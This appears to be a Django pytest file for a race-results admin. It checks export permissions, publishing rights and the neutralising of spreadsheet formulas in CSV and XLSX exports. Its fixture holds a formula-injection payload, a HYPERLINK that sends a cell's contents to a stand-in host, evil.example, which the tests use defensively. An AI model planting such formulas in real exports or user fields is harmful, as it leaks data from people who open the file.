"""Organizers' exports of results: their own races only, and no formula in any cell."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from results.models import Result, ResultsPublication
from results.tests.pages import Computed, make_computed

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@pytest.fixture
def computed(alpha: Any, alice: Any) -> Computed:
    computed = make_computed(alpha, publish_by=alice)
    ben = computed.entries["Ben"]
    ben.club, ben.last_name = FORMULA, "@SUM(1+1)"
    ben.save()
    return computed


def export_url(computed: Computed, fmt: str) -> str:
    return reverse(f"admin:results_export_{fmt}", args=[computed.race.pk])


def csv_rows(response: Any) -> list[list[str]]:
    text = b"".join(response.streaming_content if response.streaming else [response.content])
    return list(csv.reader(io.StringIO(text.decode("utf-8-sig"))))


def test_it_exports_a_races_results_as_csv_in_rank_order(
    client: Client, computed: Computed, bob: Any
) -> None:
    client.force_login(bob)  # staff of Alpha: may export its results
    response = client.get(export_url(computed, "csv"))
    assert response.status_code == 200
    assert 'filename="results-alpha-10k-10k.csv"' in response["Content-Disposition"]
    header, *rows = csv_rows(response)
    assert header[:4] == ["Rank", "Bib", "Last name", "First name"]
    assert header[-2:] == ["5 km", "Finish"]
    assert [row[1] for row in rows] == ["102", "104", "101", "103", "105", "106"]
    anna = rows[2]
    assert anna[header.index("Chip time")] == "0:40:50.000"
    assert anna[header.index("5 km")] == "0:20:00.000"
    assert anna[header.index("Category")] == "Senior"
    assert rows[4][header.index("Status")] == "Did not finish"


def test_it_neutralises_formulas_in_csv_cells(
    client: Client, computed: Computed, alice: Any
) -> None:
    client.force_login(alice)
    header, *rows = csv_rows(client.get(export_url(computed, "csv")))
    ben = rows[0]
    assert ben[header.index("Club")] == "'" + FORMULA
    assert ben[header.index("Last name")] == "'@SUM(1+1)"


def test_it_exports_xlsx_with_every_cell_text_not_formula(
    client: Client, computed: Computed, alice: Any
) -> None:
    client.force_login(alice)
    response = client.get(export_url(computed, "xlsx"))
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet is not None
    header = [cell.value for cell in sheet[1]]
    club = sheet.cell(row=2, column=header.index("Club") + 1)
    assert club.value == FORMULA and club.data_type == "s"
    assert sheet.max_row == 7


def test_it_refuses_another_organizers_race(
    client: Client, computed: Computed, bravo: Any, charlie: Any, dave: Any
) -> None:
    client.force_login(charlie)  # owns Bravo, not Alpha
    for fmt in ("csv", "xlsx"):
        assert client.get(export_url(computed, fmt)).status_code == 404
    listing = client.get(reverse("admin:results_resultspublication_changelist"))
    assert "Alpha 10K" not in listing.content.decode()
    client.force_login(dave)  # no organizer: not in the back office at all
    assert client.get(export_url(computed, "csv")).status_code == 302


def test_it_lists_the_organizers_races_with_their_exports(
    client: Client, computed: Computed, alice: Any
) -> None:
    client.force_login(alice)
    page = client.get(reverse("admin:results_resultspublication_changelist")).content.decode()
    assert export_url(computed, "csv") in page and export_url(computed, "xlsx") in page
    assert computed.url() in page and "Official" in page


def test_it_lets_owners_publish_and_staff_only_look(
    client: Client, alpha: Any, alice: Any, bob: Any
) -> None:
    computed = make_computed(alpha)
    publication = ResultsPublication.objects.get(race=computed.race)
    changelist = reverse("admin:results_resultspublication_changelist")
    action = {"action": "publish", "_selected_action": [publication.pk]}
    client.force_login(bob)  # staff: runs the timing, does not publish
    client.post(changelist, action)
    publication.refresh_from_db()
    assert publication.state == ResultsPublication.State.PROVISIONAL
    client.force_login(alice)
    client.post(changelist, action)
    publication.refresh_from_db()
    assert (publication.state, publication.published_by) == ("official", alice)
    assert Result.objects.get(registration=computed.entries["Eve"]).status == "dnf"
    client.post(changelist, {"action": "unpublish", "_selected_action": [publication.pk]})
    publication.refresh_from_db()
    assert publication.state == ResultsPublication.State.PROVISIONAL
